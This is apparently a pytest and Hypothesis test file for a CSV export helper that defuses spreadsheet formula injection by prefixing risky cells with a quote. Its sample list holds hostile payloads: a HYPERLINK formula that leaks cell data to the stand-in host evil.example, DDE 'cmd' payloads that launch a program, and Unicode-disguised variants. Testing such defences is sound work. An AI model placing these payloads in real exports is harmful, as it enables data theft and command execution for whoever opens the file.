import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coach.web.export.formula import BEGINS, inert

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    " \t +1",
    "\tplain",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_begin_a_formula_is_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Meridian", "1 + 1 = 2", "a=b", "Ада", "'=1", "(=1)", "3-4", "🎯 =", " Alpha"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_no_text_begins_a_formula_and_all_can_be_read_back(text: str) -> None:
    written = StringIO()
    csv.writer(written, lineterminator="\r\n").writerow(["before", inert(text), "after"])
    ((_, cell, _),) = csv.reader(StringIO(written.getvalue(), newline=""))

    assert cell.lstrip()[:1] not in BEGINS or cell.lstrip() == ""
    assert cell.removeprefix("'" if inert(text) != text else "") == text
